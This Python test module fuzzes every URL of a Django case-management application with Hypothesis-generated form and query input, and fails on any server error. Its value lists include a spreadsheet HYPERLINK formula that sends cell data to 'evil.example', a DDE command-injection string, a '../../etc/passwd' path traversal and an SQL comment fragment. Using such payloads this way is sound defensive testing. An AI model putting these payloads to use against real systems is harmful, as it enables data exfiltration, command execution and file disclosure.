"""Generated input to every URL of the product, as everyone who may open it:
no answer is a 500.

The URLs come from the resolver itself (the admin's included), so a new page is
fuzzed the day it is added. Who may open each one is the access rule of
test_every_url.URL_RULES (which already fails for an unclassified URL); the
Django admin is the administrators'; the public pages (PUBLIC_URLS) are fuzzed
as an anonymous visitor.

What is sent is found the way a browser finds it: every page a persona may
open is fetched once, and each <form> on it (method, action, fields, options,
current values) is read. Then, for each URL and persona, Hypothesis draws:
- the address: the world's real records (test conftest's `world`), or generated
  values for the URL's parameters (unknown codes, huge numbers, odd text);
- a GET with generated values for the fields of the page's own GET forms, the
  fields of the forms in the view's context, every name a view reads from
  request.GET in the product's source, and a few common names;
- for a URL that takes a POST, the fields of the forms that post to it, each
  either left as the page rendered it (so the rest of the form stays valid and
  the view gets as far as the database) or replaced with a generated value:
  text with NUL bytes, Khmer, formula prefixes, very long strings, integers
  beyond any column, dates in year 1 or 9999.

Every example runs inside a savepoint that is rolled back, and the client's
cookies are put back, so each starts from the same world and the same login.
Deterministic (a fixed seed for each URL and persona, no example database)
and bounded: examples_for() per URL and persona (about 4,500 requests, a minute
and a half on SQLite). A 500 fails the test with the URL, the persona and the
input; SMF_FUZZ_EXAMPLES=60 walks deeper by hand.
"""

from __future__ import annotations

import copy
import os
import re
import zlib
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote_plus, urlsplit

import pytest
from django import forms as django_forms
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import NoReverseMatch, URLPattern, URLResolver, get_resolver, reverse
from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from tests.conftest import PASSWORD

from .conftest import PERSONAS, World
from .test_every_url import ADMIN, PUBLIC_URLS, URL_RULES

ANONYMOUS = "anonymous"
ROOT = Path(__file__).resolve().parents[2]

# Generated examples for a form, per persona (each one GET, and one POST); pages
# only read and the admin's many pages get fewer (examples_for).
EXAMPLES = int(os.environ.get("SMF_FUZZ_EXAMPLES", "12"))

# How many fields of a form one example changes (none: the form as rendered).
CHANGED = (0, 1, 1, 1, 1, 2, 3)

# One address in four names no record (a generated code, uuid or number).
RECORD_OR_NOT = (False, False, False, True)

# Names tried in every query string, besides those found in forms and views.
COMMON_PARAMS = (
    "month",
    "year",
    "page",
    "q",
    "search",
    "province",
    "user",
    "sort",
    "o",
    "center",
    "status",
    "next",
    "show",
)

# Not fuzzed, each for a reason.
SKIPPED = {
    # Logs the persona out (and the rolled-back session would not come back);
    # as the anonymous visitor it is fuzzed like any public URL.
    "logout": "ends the session the rest of the walk runs on",
}


# --- the URLs --------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    name: str
    pattern: URLPattern
    converters: tuple[tuple[str, str], ...]  # (kwarg, converter class name)
    admin: bool


def _walk(resolver: URLResolver, namespace: str | None = None, route: str = "") -> Iterator:
    for pattern in resolver.url_patterns:
        here = route + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            ns = namespace
            if pattern.namespace:
                ns = f"{namespace}:{pattern.namespace}" if namespace else pattern.namespace
            yield from _walk(pattern, ns, here)
        elif isinstance(pattern, URLPattern):
            name = pattern.name
            qualified = f"{namespace}:{name}" if namespace and name else name
            yield qualified or here, pattern, namespace


def targets() -> list[Target]:
    found = []
    for name, pattern, namespace in _walk(get_resolver()):
        if "static" in name:
            continue  # django.contrib.staticfiles' files (DEBUG only): no view of ours
        converters = tuple(
            (kwarg, type(converter).__name__)
            for kwarg, converter in pattern.pattern.converters.items()
        )
        found.append(Target(name, pattern, converters, admin=namespace == "admin"))
    return found


def openers(target: Target) -> frozenset[str]:
    """Who may open the URL: its access rule; the admin is the administrators'."""
    if target.name in SKIPPED:
        return frozenset({ANONYMOUS})
    if target.name in URL_RULES:
        return URL_RULES[target.name].allowed
    if target.name in PUBLIC_URLS:
        return frozenset({ANONYMOUS})
    if target.admin:
        return frozenset({ADMIN})
    raise AssertionError(f"{target.name}: no access rule (tests/security/test_every_url.py)")


# --- the world's addresses --------------------------------------------------------


def _admin_object_id(target: Target) -> str | None:
    model_admin = getattr(target.pattern.callback, "model_admin", None)
    if model_admin is None:
        return None
    first = model_admin.model._default_manager.order_by("pk").first()
    return str(first.pk) if first else None


def world_kwargs(target: Target, world: World) -> dict | None:
    """The URL's parameters for a real record of the world (None: none fits)."""
    if not target.converters:
        return {}
    if target.name in URL_RULES:
        return URL_RULES[target.name].kwargs(world)
    if target.name == "reintegration:feed":
        return {"token": "00000000-0000-0000-0000-000000000000"}
    names = {kwarg for kwarg, _ in target.converters}
    if target.admin and names == {"object_id"}:
        object_id = _admin_object_id(target)
        return {"object_id": object_id} if object_id else None
    if target.admin and names == {"app_label"}:
        return {"app_label": "cases"}
    return None


def _address(target: Target, kwargs: dict) -> str | None:
    if target.pattern.name is None:
        # The admin's unnamed patterns (its catch-all, an object's old address).
        route = str(target.pattern.pattern).lstrip("^").rstrip("$")
        if target.converters or "(?P" in route:
            return None
        return "/admin/" + route
    try:
        return reverse(target.name, kwargs=kwargs)
    except NoReverseMatch:
        return None


# --- forms, as a browser reads them ------------------------------------------------


@dataclass
class FormField:
    name: str
    kind: str  # text, number, date, select, checkbox, file, hidden, textarea, ...
    value: str = ""  # as rendered: what an unchanged submission sends
    options: list[str] = field(default_factory=list)
    multiple: bool = False
    attrs: dict[str, str] = field(default_factory=dict)


@dataclass
class HtmlForm:
    method: str
    action: str
    fields: dict[str, FormField] = field(default_factory=dict)


class _FormParser(HTMLParser):
    """The <form>s of a page, and the query names of its links to itself."""

    def __init__(self, page: str):
        super().__init__(convert_charrefs=True)
        self.page = urlsplit(page).path
        self.forms: list[HtmlForm] = []
        self.link_params: dict[str, str] = {}
        self._form: HtmlForm | None = None
        self._select: FormField | None = None
        self._textarea: FormField | None = None

    def handle_starttag(self, tag, attrs):
        a = {key: value or "" for key, value in attrs}
        if tag == "a" and a.get("href", "").startswith("?"):
            # Filters and pages as links (the admin's list filters, pagination).
            for pair in a["href"][1:].split("&"):
                name, _, value = pair.partition("=")
                self.link_params.setdefault(unquote_plus(name), unquote_plus(value))
            return
        if tag == "form":
            action = urlsplit(a.get("action", "")).path or self.page
            self._form = HtmlForm((a.get("method") or "get").lower(), action)
            self.forms.append(self._form)
            return
        if tag == "option" and self._select is not None:
            value = a.get("value", "")
            self._select.options.append(value)
            if "selected" in a and not self._select.value:
                self._select.value = value
            return
        if self._form is None or not a.get("name"):
            return
        name, fields = a["name"], self._form.fields
        if tag in ("input", "button"):
            kind = (a.get("type") or ("submit" if tag == "button" else "text")).lower()
            if kind in ("checkbox", "radio"):
                known = fields.setdefault(name, FormField(name, kind))
                known.options.append(a.get("value") or "on")
                if "checked" in a:
                    known.value = a.get("value") or "on"
            elif kind in ("submit", "reset", "image"):
                # A named button's value is part of what its click sends.
                fields.setdefault(name, FormField(name, "button", a.get("value", "")))
            else:
                fields[name] = FormField(name, kind, a.get("value", ""), attrs=a)
        elif tag == "select":
            self._select = fields[name] = FormField(name, "select", multiple="multiple" in a)
        elif tag == "textarea":
            self._textarea = fields[name] = FormField(name, "textarea", attrs=a)

    def handle_endtag(self, tag):
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None
        elif tag == "textarea":
            self._textarea = None

    def handle_data(self, data):
        if self._textarea is not None:
            self._textarea.value += data


def read_page(page: str, html: str) -> _FormParser:
    parser = _FormParser(page)
    parser.feed(html)
    for form in parser.forms:
        # The test client does not check CSRF tokens.
        form.fields.pop("csrfmiddlewaretoken", None)
        for select in form.fields.values():
            if select.kind == "select" and not select.value and not select.multiple:
                # What a browser sends for an untouched <select>: its first option
                # (the first real one, so that the rest of the form stays valid).
                chosen = [option for option in select.options if option]
                select.value = chosen[0] if chosen else ""
    return parser


def context_form_fields(response) -> set[str]:
    """Field names of the forms a view put in its template's context."""
    names: set[str] = set()
    for context in response.context or []:
        for value in context.flatten().values() if hasattr(context, "flatten") else ():
            if isinstance(value, django_forms.BaseForm):
                names.update(value.add_prefix(name) for name in value.fields)
    return names


def names_views_read() -> dict[str, set[str]]:
    """The names each module of the product reads from request.GET, by module."""
    read = re.compile(r"request\.GET(?:\.get\(|\[|\.getlist\()\s*[\"'](\w+)[\"']")
    found = {}
    for app in ("smf", "cases", "shelters", "reintegration", "outreach", "reports"):
        for path in (ROOT / app).rglob("*.py"):
            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            found[module] = set(read.findall(path.read_text()))
    return found


def view_module(target: Target) -> str:
    view = target.pattern.callback
    return getattr(getattr(view, "view_class", view), "__module__", "")


# --- generated values --------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
)
ODD_TEXT = (
    "",
    " ",
    "\x00",
    "a\x00b",
    "../../etc/passwd",
    "<b>x</b>",
    "'; --",
    "%",
    "\\",
    "None",
    "NaN",
    "inf",
    "1e309",
    "0x1F",
    "１２",  # fullwidth digits
    "១២",  # Khmer digits
    "\u200b",
    "\ufeff",
    "a/b",
    "TD-1-0001",
    "00000000-0000-0000-0000-000000000000",
)
INTEGERS = (
    "0",
    "-1",
    "2147483647",
    "2147483648",
    "-2147483649",
    "9223372036854775807",
    "9223372036854775808",
    "-9223372036854775809",
    "1" + "0" * 40,
    "1.5",
    "1e3",
    " 7 ",
)
DATES = (
    "0001-01-01",
    "9999-12-31",
    "0000-00-00",
    "2011-02-30",
    "2011-13-01",
    "10000-01-01",
    "-001-01-01",
    "31/12/2011",
    "9999-12",
    "0001-01",
    "2011-13",
    "2011-06-01T25:61",
)
# Lengths past a field's limit (256, 5,001), past a note's (20,001), and an
# address that no form takes (300,000).
LONG = (("A", 256), ("A", 5_001), ("ក", 20_001), ("A", 300_000))

khmer = st.text(st.characters(min_codepoint=0x1780, max_codepoint=0x17FF), min_size=1, max_size=30)
# The known edges more often than not; free generation for what nobody listed.
edges = st.sampled_from(FORMULAS + ODD_TEXT + INTEGERS + DATES)
long_text = st.sampled_from(LONG).map(lambda pair: pair[0] * pair[1])
nasty = st.one_of(
    edges,
    st.text(max_size=30),  # NUL and every other code point but surrogates
    khmer,
    st.integers().map(str),
    long_text,
    st.dates().map(lambda day: day.isoformat()),
    st.uuids().map(str),
)
numbers = st.one_of(st.sampled_from(INTEGERS), st.integers().map(str))
dates = st.one_of(st.sampled_from(DATES), st.dates().map(lambda day: day.isoformat()))
MONTHS = ("9999-12", "0001-01", "2011-13", "2011-00", "0-0", "-1--1", "2011-06-01", "2011")
months = st.one_of(st.sampled_from(MONTHS), st.dates().map(lambda day: day.strftime("%Y-%m")))


def _hinted(name: str) -> st.SearchStrategy[str] | None:
    """A value of the kind a query parameter's name says it takes."""
    if "month" in name:
        return months
    if name in ("year", "page", "p") or name.endswith(("_id", "year")):
        return numbers
    if name.endswith(("_on", "_from", "_to", "_until", "date")) or name in ("from", "to"):
        return dates
    return None


def value_for(form_field: FormField | None, name: str = "") -> st.SearchStrategy[str]:
    """A generated value, of the field's own kind more often than not."""
    kind = form_field.kind if form_field else ""
    if kind == "number":
        return st.one_of(numbers, nasty)
    if kind in ("date", "datetime-local", "month"):
        return st.one_of(dates, nasty)
    if form_field is not None and form_field.options:
        return st.one_of(st.sampled_from(form_field.options), nasty)
    if kind in ("text", "textarea", "search"):
        return st.one_of(nasty, long_text)
    hinted = _hinted(name)
    return st.one_of(hinted, nasty) if hinted is not None else nasty


def converter_values(converter: str) -> st.SearchStrategy[str]:
    """Addresses of no record: unknown codes, huge numbers, odd text."""
    if converter == "IntConverter":
        return st.one_of(st.integers(min_value=0).map(str), st.just("9" * 30))
    if converter == "UUIDConverter":
        return st.uuids().map(str)
    if converter == "SlugConverter":
        return st.from_regex(r"\A[-a-zA-Z0-9_]{1,40}\Z")
    return st.one_of(st.text(min_size=1, max_size=40), khmer, st.sampled_from(FORMULAS + ODD_TEXT))


# --- requests ------------------------------------------------------------------------


def _shown(data: dict) -> str:
    """The input of a request, with long values cut down to size."""

    def short(value) -> str:
        text = repr(value)
        return text if len(text) <= 80 else f"{text[:60]}... ({len(str(value))} characters)"

    return "{" + ", ".join(f"{key!r}: {short(value)}" for key, value in data.items()) + "}"


def hit(client: Client, method: str, path: str, data: dict, who: str, target: Target):
    """One request, rolled back, the client's cookies put back; fails on a 500."""
    cookies = copy.deepcopy(client.cookies)
    response, error = None, None
    try:
        with transaction.atomic():
            response = getattr(client, method)(path, data)
            if response.streaming:
                b"".join(response.streaming_content)  # a CSV fails while it streams
            transaction.set_rollback(True)
    except Exception as raised:  # noqa: BLE001 - any exception is the finding
        error = f"{type(raised).__name__}: {raised}"
    finally:
        client.cookies = cookies
    if error is None and response.exc_info is not None:
        error = f"{response.exc_info[0].__name__}: {response.exc_info[1]}"
    # The health check answers 503 on purpose when a service is down.
    deliberate = target.name == "healthz" and response is not None and response.status_code == 503
    if error or (response.status_code >= 500 and not deliberate):
        status = response.status_code if response is not None else "no answer"
        raise AssertionError(
            f"{method.upper()} {path} as {who}: {status} {error or ''}\n    input: {_shown(data)}"
        )
    return response


# --- the walk --------------------------------------------------------------------------


@dataclass
class Page:
    """What the persona's browser learnt of one address."""

    get_fields: dict[str, FormField | None] = field(default_factory=dict)
    post_forms: list[HtmlForm] = field(default_factory=list)


def _client_for(persona: str, world: World) -> Client:
    client = Client(raise_request_exception=False)
    if persona != ANONYMOUS:
        client.force_login(world.users[persona])
    return client


def _opens_with(target: Target) -> tuple[bool, bool]:
    """(GET, POST): how the URL is called."""
    if target.name in URL_RULES:
        method = URL_RULES[target.name].method
        return method != "post", method != "get"
    if target.admin:
        return True, False  # POST where a page has a form that posts to it
    return True, True  # the public pages are few: both


def discover(client: Client, persona: str, mine: list[Target], world: World) -> dict[str, Page]:
    """Fetch every page the persona may open once; read its forms and links."""
    pages: dict[str, Page] = {}
    for target in mine:
        kwargs = world_kwargs(target, world)
        path = None if kwargs is None else _address(target, kwargs)
        if path is None or not _opens_with(target)[0]:
            continue
        response = hit(client, "get", path, {}, persona, target)
        if not response.get("Content-Type", "").startswith("text/html") or response.streaming:
            continue
        parsed = read_page(path, response.content.decode("utf-8", errors="replace"))
        here = pages.setdefault(path, Page())
        here.get_fields.update(dict.fromkeys(context_form_fields(response)))
        here.get_fields.update(
            {name: FormField(name, "text", value) for name, value in parsed.link_params.items()}
        )
        for form in parsed.forms:
            page = pages.setdefault(form.action, Page())
            if form.method == "get":
                page.get_fields.update(form.fields)
            elif not any(known.fields.keys() == form.fields.keys() for known in page.post_forms):
                page.post_forms.append(form)
    return pages


# What a person types into an empty field, so that the rest of a form is valid
# while one field is fuzzed (and the view gets as far as the database).
TYPED = {
    "date": "2011-06-01",
    "number": "1",
    "email": "fuzz@example.org",
    "password": "another-long-passphrase-42",
    "text": "Fuzz",
    "search": "Fuzz",
    "tel": "012345678",
    "textarea": "Fuzz",
    "url": "https://example.org/",
}


def _filled(form_field: FormField) -> str:
    if form_field.value.strip() or form_field.kind == "hidden":
        return form_field.value
    css = form_field.attrs.get("class", "")
    if "vDateField" in css:  # the admin's date and time boxes
        return "2011-06-01"
    if "vTimeField" in css:
        return "10:00"
    if form_field.kind == "number" and form_field.attrs.get("min"):
        return form_field.attrs["min"]
    if form_field.kind == "password" and "old" in form_field.name:
        return PASSWORD
    return TYPED.get(form_field.kind, "")


def _baseline(form: HtmlForm) -> dict:
    """What a person submits: the form as the page rendered it, empty fields filled."""
    data: dict = {}
    for name, form_field in form.fields.items():
        if form_field.kind == "file":
            continue
        if form_field.kind in ("checkbox", "radio") or form_field.multiple:
            if form_field.value:
                data[name] = form_field.value
            continue
        data[name] = _filled(form_field)
    return data


def examples_for(target: Target, persona: str, does_post: bool) -> int:
    """A form gets the most examples (one field at a time needs many); a page
    only read, a reader's refused POST and the admin's pages fewer."""
    rule = URL_RULES.get(target.name)
    if target.admin:
        return max(1, EXAMPLES // 4 if does_post else EXAMPLES // 8)
    if does_post and not (rule and persona in rule.readers):
        return EXAMPLES
    return max(1, EXAMPLES // 3)


def fuzz(client: Client, persona: str, target: Target, world: World, pages: dict) -> None:
    kwargs = world_kwargs(target, world)
    home = None if kwargs is None else _address(target, kwargs)
    page = pages.get(home, Page()) if home else Page()
    does_get, does_post = _opens_with(target)
    if target.admin and home and pages.get(home) and pages[home].post_forms:
        does_post = True
    everywhere = set().union(*READ_BY_VIEWS.values())
    query_fields = dict.fromkeys(sorted(everywhere | set(COMMON_PARAMS)))
    query_fields.update(page.get_fields)
    # What this view reads: each name in about half of the examples.
    own = sorted(READ_BY_VIEWS.get(view_module(target), set()) | set(page.get_fields))
    generated_kwargs = st.fixed_dictionaries(
        {kwarg: converter_values(converter) for kwarg, converter in target.converters}
    )

    # A seed of its own for each URL and persona: two personas who see the same
    # form get different examples; the same ones on every run.
    @seed(zlib.crc32(f"{target.name} {persona}".encode()))
    @settings(
        max_examples=examples_for(target, persona, does_post),
        database=None,
        deadline=None,
        phases=[Phase.explicit, Phase.generate],  # the message names the input
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )
    @given(st.data())
    def one_example(data):
        path = home
        if path is None or (
            target.converters and data.draw(st.sampled_from(RECORD_OR_NOT), "no such record")
        ):
            path = _address(target, data.draw(generated_kwargs, "address")) or home
        if path is None:
            return
        if does_get:
            names = [name for name in own if data.draw(st.booleans(), f"send {name}")]
            if not names or data.draw(st.booleans(), "another name"):
                names.append(data.draw(st.sampled_from(sorted(query_fields)), "name"))
            query = {name: data.draw(value_for(query_fields[name], name), name) for name in names}
            hit(client, "get", path, query, persona, target)
        if does_post:
            form = data.draw(st.sampled_from(page.post_forms)) if page.post_forms else None
            if form is None:
                form = HtmlForm(
                    "post", path, {name: FormField(name, "text") for name in COMMON_PARAMS}
                )
            payload = _baseline(form)
            # Mostly one field at a time, so that the rest of the form is valid.
            count = min(len(form.fields), data.draw(st.sampled_from(CHANGED), "fields changed"))
            changed = data.draw(
                st.lists(
                    st.sampled_from(sorted(form.fields)),
                    min_size=count,
                    max_size=count,
                    unique=True,
                )
                if count
                else st.just([])
            )
            for name in changed:
                form_field = form.fields[name]
                if form_field.kind == "file":
                    payload[name] = SimpleUploadedFile(
                        data.draw(st.sampled_from(("a.zip", "ក.csv", "../x"))),
                        data.draw(st.binary(max_size=64)),
                    )
                else:
                    payload[name] = data.draw(value_for(form_field, name), name)
            hit(client, "post", path, payload, persona, target)

    one_example()


TARGETS = targets()
READ_BY_VIEWS = names_views_read()


def test_the_walk_covers_every_url():
    """Every URL the resolver knows is fuzzed as someone, or skipped for a reason."""
    by_name = {target.name: target for target in TARGETS}
    names = set(by_name)
    app_urls = {target.name for target in TARGETS if not target.admin}
    # A guard against a walk that silently found nothing (a changed resolver).
    assert len(app_urls) >= 80, sorted(app_urls)
    assert len(names) - len(app_urls) >= 100, "the admin's pages are missing"
    assert {"caseload:list", "outreach:visit_create", "reintegration:calendar"} <= names
    for target in TARGETS:
        assert openers(target), target.name
    assert set(SKIPPED) <= names
    assert {"page", "month", "province", "user"} <= set().union(*READ_BY_VIEWS.values())
    assert "month" in READ_BY_VIEWS[view_module(by_name["reintegration:calendar"])]


@pytest.mark.parametrize("persona", (*PERSONAS, ANONYMOUS))
def test_generated_input_never_gets_a_500(persona, world):
    client = _client_for(persona, world)
    mine = [target for target in TARGETS if persona in openers(target)]
    if persona != ANONYMOUS:
        mine = [target for target in mine if target.name not in SKIPPED]
    pages = discover(client, persona, mine, world)
    failures = []
    for target in mine:
        try:
            fuzz(client, persona, target, world, pages)
        except Exception as failure:  # noqa: BLE001 - one or several findings
            failures.append(f"{target.name}: {failure}")
    assert not failures, f"{len(failures)} URLs answered 500:\n" + "\n".join(failures)
